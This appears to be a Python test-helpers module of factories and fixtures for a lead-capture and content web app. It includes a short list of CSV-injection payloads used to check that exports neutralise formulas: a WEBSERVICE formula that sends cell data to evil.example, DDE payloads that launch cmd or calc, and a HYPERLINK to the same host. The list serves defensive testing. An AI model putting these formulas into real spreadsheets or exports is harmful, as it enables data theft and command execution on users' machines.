"""factory_boy factories bound to the app's db.session. Packages add theirs here."""

import io
import threading
import time
from datetime import datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import factory

from accounts.models import User
from content.documents import article_defaults
from content.models import Article
from content.services import save_article
from core.extensions import db
from core.timeutil import utcnow
from core.tokens import sign
from gated.assets import store_asset
from gated.models import Asset
from insights.scoring.models import ScoreRule

TEST_PASSWORD = "correct horse battery"


class BaseFactory(factory.alchemy.SQLAlchemyModelFactory):
    class Meta:
        abstract = True
        sqlalchemy_session_factory = lambda: db.session  # noqa: E731
        sqlalchemy_session_persistence = "commit"


class UserFactory(BaseFactory):
    class Meta:
        model = User

    email = factory.Sequence(lambda n: f"staff{n}@example.com")
    name = factory.Sequence(lambda n: f"Staff {n}")
    role = "editor"
    password_hash = factory.LazyFunction(lambda: _hashed(TEST_PASSWORD))


class ScoreRuleFactory(BaseFactory):
    """A lead-scoring rule; the test databases start without the migrations' defaults."""

    class Meta:
        model = ScoreRule

    name = factory.Sequence(lambda n: f"rule {n}")
    kind = "action"
    event_kind = ""
    field = ""
    pattern = ""
    points = 1
    daily_cap = 0


# A valid scoring rule as the rules page's form sends it.
SCORING_RULE_FORM = {
    "name": "价格页",
    "kind": "action",
    "event_kind": "page_view",
    "field": "path",
    "pattern": "/pricing",
    "points": "15",
    "daily_cap": "",
    "active": "y",
}


class AssetFactory(BaseFactory):
    """A gated file's record (no file on disk: for what reads assets by slug or id)."""

    class Meta:
        model = Asset

    slug = factory.Sequence(lambda n: f"asset-{n}")
    title = ""
    filename = "r.pdf"
    stored_name = "r.pdf"
    content_type = "application/pdf"
    size = 1
    sha256 = "0" * 64


def _hashed(password: str) -> str:
    from werkzeug.security import generate_password_hash

    # A cheap hash keeps the suite fast; the real default is checked in the accounts tests.
    return generate_password_hash(password, method="pbkdf2:sha256:1000")


# CSV injection (OWASP, and issue 17's review): each must come out of every CSV export as
# text that a spreadsheet shows, never as a formula it runs.
FORMULA_PAYLOADS = (
    '=0+WEBSERVICE("http://evil.example/?"&B3)',
    "-1+1|cmd",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example","x")',
)


def formula_cells(text: str) -> list[str]:
    """The cells of a CSV document that a spreadsheet would run as a formula (a plain
    negative number is a number, not a formula)."""
    import csv
    import io
    import re

    rows = csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""))
    return [
        cell
        for row in rows
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-\d+(\.\d+)?", cell)
    ]


def payload_leads() -> list:
    """One lead per payload, the payload in every text field a visitor can fill."""
    from gated.models import Lead

    leads = [
        Lead(
            email=f"payload{number}@example.com",
            name=payload,
            company=payload,
            job_title=payload,
            source=payload,
            first_utm_campaign=payload,
            last_referrer=payload,
        )
        for number, payload in enumerate(FORMULA_PAYLOADS)
    ]
    db.session.add_all(leads)
    db.session.commit()
    return leads


def audit_entries(action: str) -> list:
    """The audit log's entries of one action, oldest first."""
    from accounts.models import AuditEntry

    db.session.expire_all()
    return list(
        db.session.scalars(db.select(AuditEntry).where(AuditEntry.action == action).order_by(AuditEntry.id))
    )


class LocalHttpServer:
    """An outside service's stand-in on 127.0.0.1: a ThreadingHTTPServer for `handler` on a
    free port, serving from a daemon thread until `stop()`. Usable as a context manager."""

    def __init__(self, handler: type[BaseHTTPRequestHandler], host: str = "127.0.0.1"):
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.port = self.server.server_port
        self.url = f"http://{host}:{self.port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()

    def __enter__(self) -> "LocalHttpServer":
        return self

    def __exit__(self, *exc) -> None:
        self.stop()


class QuietHandler(BaseHTTPRequestHandler):
    """A request handler that keeps the test output free of its access log."""

    def log_message(self, *args):
        pass


def visit(client, path: str, headers: dict | None = None):
    """Show a page as a browser does: GET it, then send its beacon (static/js/beacon.js)
    with the page's URL and the visitor's referrer. Returns (page, beacon) responses."""
    headers = dict(headers or {})
    page = client.get(path, headers=headers)
    beacon = client.post(
        "/beacon",
        data={"u": path, "r": headers.get("Referer", "")},
        headers={**headers, "Sec-Fetch-Site": "same-origin"},
    )
    return page, beacon


def handed_off(owner, *, at, email="li@acme.cn", **fields):
    """A lead in stage mql handed to `owner` at `at` (naive UTC), and its hand-off."""
    from gated.models import Lead
    from insights.scoring.models import Handoff

    lead = Lead(
        email=email,
        name=fields.pop("name", "李雷"),
        company=fields.pop("company", "Acme"),
        stage="mql",
        **fields,
    )
    db.session.add(lead)
    db.session.flush()
    handoff = Handoff(lead_id=lead.id, owner_id=owner.id if owner else None, score=60, created_at=at)
    db.session.add(handoff)
    db.session.commit()
    return lead, handoff


def chart_on(page: str, chart_id: str) -> dict:
    """A chart of a page (templates/_chart.html) as the browser's script reads it:
    {"kind", "labels", "series": [[name, values], …], "suffix"}, and "table": its table
    view's rows, [label, cell, …] each, as a screen reader hears them."""
    import html
    import json
    import re

    found = re.search(rf'id="{re.escape(chart_id)}" aria-hidden="true" data-chart="([^"]*)"', page)
    assert found, f"no chart {chart_id}"
    chart = json.loads(html.unescape(found.group(1)))
    table = page[found.end() :].split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    chart["table"] = [
        [
            html.unescape(re.sub(r"<[^>]+>", "", cell))
            for cell in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row)
        ]
        for row in re.findall(r"<tr>(.*?)</tr>", table)
    ]
    return chart


def mp4_bytes(size: int = 4096) -> bytes:
    """Bytes an MP4 begins with (an ISO BMFF `ftyp` box), then a counting pattern, so a
    range of the file can be checked byte for byte."""
    head = b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2"
    return head + bytes(index % 251 for index in range(size - len(head)))


def video_article(app, data: bytes | None = None, *, suffix: str = ".mp4", **fields):
    """A published video article whose uploaded file holds `data` (stored as the editor
    stores uploads, under VIDEO_DIR)."""
    from pathlib import Path

    from content.uploads import stored_name

    name = stored_name("clip" + suffix)
    folder = Path(app.config["VIDEO_DIR"])
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(mp4_bytes() if data is None else data)
    return make_article("视频简介", **{"title": "产品演示", "kind": "video", "video_file": name, **fields})


# Articles, through the real service (rendering, revisions, slugs).
ARTICLE_DEFAULTS = {
    **article_defaults(),
    "title": "测试文章",
    "kind": "help",
    "locale": "zh-CN",
    "status": "published",
}


def make_article(body="正文", *, now: datetime | None = None, **fields):
    """A saved article (published a day ago unless told otherwise)."""
    now = now or utcnow()
    values = {**ARTICLE_DEFAULTS, "published_at": now - timedelta(days=1), **fields}
    return save_article(values, body, now=now)


# White papers and their lead forms.
PDF_BYTES = b"%PDF-1.4\n% Lodestar test file \xe2\x9c\xa6\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"
# A browser's User-Agent: the site counts no page view of a client without one (a bot).
BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36"


def make_whitepaper(
    slug="saas-renewal",
    title="如何提高 SaaS 续费率",
    *,
    with_asset=True,
    filename="续费指南.pdf",
    pdf: bytes = PDF_BYTES,
    **article_fields,
):
    """A published white paper and its stored PDF, as an editor and the asset upload make
    them: (article, asset or None). `article_fields` override the article's defaults."""
    now = utcnow()
    values = {
        "summary": "一句话摘要",
        "published_at": now - timedelta(days=1),
        "body_md": "# 一\n",
        "body_html": "<h1 id='a'>一</h1>",
        "toc_html": '<div class="toc"><ul><li><a href="#a">第一章 续费的真相</a></li></ul></div>',
        "sequence_slug": "whitepaper-followup",
        **article_fields,
    }
    article = Article(kind="whitepaper", slug=slug, title=title, status="published", **values)
    db.session.add(article)
    db.session.commit()
    asset = None
    if with_asset:
        asset = store_asset(
            io.BytesIO(pdf), filename=filename, slug=slug, title=title, article_id=article.id, now=now
        )
    return article, asset


def started(seconds_ago=60):
    """The lead form's start time, signed as GET /forms/start gives it."""
    return sign("form-start", {"t": time.time() - seconds_ago})


def form_data(**overrides):
    """A lead form as a person fills it (None leaves a field out)."""
    data = {
        "email": "  Wang.Fang@Example.COM ",
        "name": "王芳",
        "company": "星河软件",
        "job_title": "CTO",
        "phone": "138 0013 8000",
        "role": "decision_maker",
        "started": started(),
        "utm_source": "baidu",
        "utm_medium": "cpc",
        "utm_campaign": "renewal",
    }
    data.update(overrides)
    return {k: v for k, v in data.items() if v is not None}


def fast(**overrides):
    """Form data as an autofilling browser sends it: every field at once, a second after
    the page was shown."""
    return form_data(started=started(seconds_ago=0), **overrides)


def open_mailed_link(client, lead_id: int, asset_id: int) -> None:
    """Open a download link as mailed to the lead: the browser becomes a known visitor."""
    from gated.downloads import make_download_url

    client.get(make_download_url(lead_id, asset_id, external=False, mailed=True)).close()


class WebhookReceiver:
    """A real HTTP receiver of the lead webhook: keeps what it was sent and fails the next
    `fail_next` deliveries with a 503."""

    def __init__(self):
        self.requests = []
        self.fail_next = 0
        receiver = self

        class Handler(QuietHandler):
            def do_POST(self):
                body = self.rfile.read(int(self.headers["Content-Length"]))
                receiver.requests.append((dict(self.headers), body))
                status = 503 if receiver.fail_next > 0 else 200
                receiver.fail_next -= 1
                self.send_response(status)
                self.send_header("Content-Length", "0")
                self.end_headers()

        self.local = LocalHttpServer(Handler)
        self.url = f"{self.local.url}/hook"

    def stop(self):
        self.local.stop()
